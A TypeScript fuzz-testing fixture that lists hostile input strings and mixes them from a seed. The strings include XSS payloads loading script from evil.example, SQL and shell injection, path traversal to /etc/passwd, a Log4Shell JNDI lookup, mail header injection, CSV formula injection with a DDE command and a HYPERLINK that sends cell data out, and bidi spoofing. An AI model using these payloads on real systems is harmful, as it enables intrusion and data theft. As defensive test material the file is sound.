/** Texts that other programs have executed, obeyed or crashed on: a written list, and variations derived from a seed. */
import { isPlainText, SIGN_MAX } from '@bittkosh/contract/shapes'
import { type Dice, diceFrom } from '../fuzz/draw.ts'

/** What the markup and scripts below would set if anything were executed or became an element: look.ts searches for it. */
export const SENTINEL = '__pwned'
/** The host that they would contact. */
export const FOREIGN = 'evil.example'

const run = `window.${SENTINEL}=1`

const written: readonly string[] = [
  // Markup and scripts
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script src=https://${FOREIGN}/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `'"><img src=https://${FOREIGN}/p.png onload=${run}>`,
  `<svg onload=${run}><circle r=9 /></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe srcdoc="<script>parent.${SENTINEL}=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src=//${FOREIGN}/e>`,
  `<base href="https://${FOREIGN}/"><meta http-equiv=refresh content="0;url=https://${FOREIGN}">`,
  `<link rel=stylesheet href=https://${FOREIGN}/s.css><style>*{display:none!important}</style>`,
  `<form action=https://${FOREIGN}><input name=otp autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<a href="javascript:${run}">Claim your bonus</a>`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' style='position:fixed;inset:0' onpointerenter='${run}`,
  `javascript:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><img src=x onerror=${run}></title></style>`,
  `<template><b id=${SENTINEL}>x</b></template><marquee>x</marquee>`,
  `<plaintext>`,
  `<![CDATA[<b id=${SENTINEL}>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  // Templates, formats, names of objects
  '${7*7} #{7*7} {{7*7}} <%= 7*7 %> {% raw %}',
  `{{constructor.constructor('${run}')()}}`,
  `\${globalThis.${SENTINEL}=1}`,
  '{name}, {0}, {count, plural, one {#} other {# things}}',
  '{count, plural, other {#',
  "'{'quoted'}' '' #",
  '<0>bold</0><1/>',
  '%s %d %n %1$s %08x %%',
  '__proto__',
  'constructor.prototype.toString',
  `{"__proto__":{"${SENTINEL}":1}}`,
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '$& $1 $` $$',
  // Databases, shells, paths
  "' or '1'='1' -- ",
  '"; drop table users; --',
  "\\' union select password_hash from users /*",
  '%_%\\',
  '$(reboot) `reboot` | reboot & reboot',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  'file:///etc/passwd',
  '%2e%2e%2f%00',
  '() { :; }; echo shock',
  '${jndi:ldap://evil.example/a}',
  // Mails
  'Subject\r\nBcc: all@evil.example\r\n\r\nYou have won',
  'Line\nBcc: all@evil.example\nContent-Type: text/html\n\n<b>won</b>',
  'Line\n.\nQUIT\nMAIL FROM:<x@evil.example>',
  '--=_boundary\nContent-Type: text/html\n\n<b>won</b>\n--=_boundary--',
  '----_NmP-0000000000000000-Part_1\nContent-Type: text/html',
  '=?utf-8?B?PGI+d29uPC9iPg==?= =?utf-8?Q?=0D=0ABcc:_x?=',
  'From the desk of the bank\nFrom nobody Thu Jan 1\n>From',
  '=3Cscript=3E=0D=0A.=0D=0A',
  '"Support" <support@evil.example>, all@evil.example',
  'Please confirm at https://evil.example/login or http://1.2.3.4/x',
  'evil。example ／ evil．example',
  // Spreadsheets
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  ';=1+1',
  '","=1+1","',
  'a\r\n=1+1,b',
  '%0A-1+1',
  "'=1+1",
  // PDF
  ') Tj ET BT (injected) Tj',
  '\\) Tj\nET\nendstream\nendobj',
  '%%EOF\n%PDF-1.4',
  '<< /S /JavaScript /JS (app.alert(1)) >>',
  '(((((\\\\\\))))',
  // Markdown
  '[bonus](javascript:alert(1)) ![x](https://evil.example/p.png)',
  '# heading\n\n- list\n\n> quote\n\n```js\nrun()\n```',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '**bold** _it_ ~~no~~ <https://evil.example>',
  '[^1]: https://evil.example',
  // Directions
  '\u202egnp.exe\u202c',
  '\u2066isolate \u2067never closed',
  'pay \u202e00001\u202c to \u2068Asha\u2069',
  '\u200e\u200fmarks',
  'مرحبا بك في بيت كوش ١٢٣٤',
  'שלום (עולם) 12,345.67 ₹',
  'ABC اردو DEF עברית 123',
  '\u0610\u0611ﷺ ﷽',
  // Scripts, joiners, stacked marks
  'क्‍ष श्री र्‍क क्‌ष ज्ञान',
  'कृपया ₹१,२३,४५६.७८ भेजें',
  'நிறுவனம் 円 株式会社 ไม่มีช่องว่าง',
  `${'क्'.repeat(60)}ष`,
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(15)}algo`,
  `${'ก็็็็็'.repeat(8)}`,
  'e\u0301 é ﬁ Ⅷ Å ①',
  'K\u212A ſ İ ı ß ẞ',
  'аррlе рау (Cyrillic)',
  '👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇮🇳 ✊🏿 ❤️‍🔥',
  '👍'.repeat(45),
  '𝕬𝖘𝖍𝖆 𝓡𝓪𝓸 𒐫𒐫𒐫 ꧁꧂ ⸻⸻⸻',
  // Invisible, broken, control
  'zero\u200bwidth\u200dand\u2060word\ufeffjoiner',
  '\u200b\u200b\u200b',
  '\u3164\u115f\u2800',
  'soft\u00adhyphen',
  'lone \ud83d half',
  'other \udc00 half',
  'nul \u0000 inside',
  'bell \u0007 back \b escape \u001b[31mred\u001b[0m delete \u007f',
  'next \u0085 line \u2028 paragraph \u2029 vertical \u000b form \u000c',
  'noncharacter \uffff \ufffe \u{1ffff}',
  'object \ufffc interlinear \ufff9x\ufffb',
  'nbsp\u00a0\u00a0\u00a0thin\u2009hair\u200aideographic\u3000',
  '   leading and trailing   ',
  'many\n\n\n\n\n\nlines\n\n\n\nwith\n \n \nspaces',
  // Long
  'W'.repeat(100),
  'W'.repeat(2_000),
  `https://evil.example/${'a'.repeat(450)}`,
  'ß'.repeat(500),
  'word '.repeat(390),
  '०'.repeat(200),
  '﷽'.repeat(30),
  '—'.repeat(300),
  'a\u00a0'.repeat(200),
  '.'.repeat(500),
  '_'.repeat(90),
  '漢字'.repeat(200),
  '"'.repeat(99),
  '<'.repeat(500),
  '\\'.repeat(99),
]

/** Texts derived from the seed, each different: the written ones in a seeded order, then crossings of them. */
export function hostileTexts({ seed, count }: { seed: number; count: number }): string[] {
  const dice = diceFrom(seed)
  const found = new Set(shuffled(written, dice).slice(0, count))
  while (found.size < count) found.add(crossed(dice))
  return [...found]
}

function crossed(dice: Dice): string {
  const [one, other] = [[...dice.pick(written)], [...dice.pick(written)]]
  const place = dice.below(one.length + 1)
  const text = dice.pick([
    () => [...one, ' ', ...other],
    () => [...one.slice(0, place), ...other, ...one.slice(place)],
    () => [...one, dice.pick(['\n', '\r\n', '\t', '"', "'", '<', '&', '\u00a0', '\u0000', '\u202e']), ...other],
    () => one.map((letter) => (dice.percent(15) ? letter.toUpperCase() : letter)),
    () => [dice.pick([...'=+-@\t\r"<']), ...one],
    () => one.flatMap((letter) => (dice.percent(20) ? [letter, dice.pick(['\u0301', '\u200d', '\ufe0f'])] : [letter])),
  ])()
  return text.join('').slice(0, 2_100)
}

function shuffled<T>(all: readonly T[], dice: Dice): T[] {
  return all
    .map((each) => ({ each, place: dice.below(1_000_000) }))
    .toSorted((a, b) => a.place - b.place)
    .map(({ each }) => each)
}

/** The nearest text that the contract's syntax accepts: forbidden characters removed, cut to the length, not empty. */
export function nearestAccepted(text: string, { max, oneLine }: { max: number; oneLine: boolean }): string {
  const lines = oneLine ? text.replace(/\n/g, ' ') : text
  const plain = [...lines.normalize('NFC')].filter((letter) => isPlainText(`a${letter}`))
  const signs = [...new Intl.Segmenter('und', { granularity: 'grapheme' }).segment(plain.join(''))]
  const kept = signs
    .map(({ segment }) => [...segment].slice(0, SIGN_MAX).join(''))
    .join('')
    .trim()
  let cut = ''
  for (const letter of kept) if (cut.length + letter.length <= max) cut += letter
  const fits = cut.trim()
  return fits !== '' && isPlainText(fits) ? fits : `a${fits}`.slice(0, max)
}
